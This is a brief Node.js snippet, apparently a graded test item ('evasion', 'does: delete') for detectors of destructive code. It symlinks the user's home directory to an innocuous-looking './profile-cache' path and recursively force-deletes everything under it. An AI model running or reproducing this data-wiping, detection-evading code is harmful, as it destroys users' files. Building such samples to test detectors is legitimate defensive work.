// evasion: a relative link to the home directory (os.userInfo) made with the callback fs.symlink; entries under it removed in the callback
// grade: hard; does: delete
const fs = require('fs');
const os = require('os');
const { homedir } = os.userInfo();
const link = './profile-cache';
fs.symlink(homedir, link, 'dir', () => {
  fs.readdirSync(link).forEach((n) => fs.rm(`${link}/${n}`, { recursive: true, force: true }, () => {}));
});
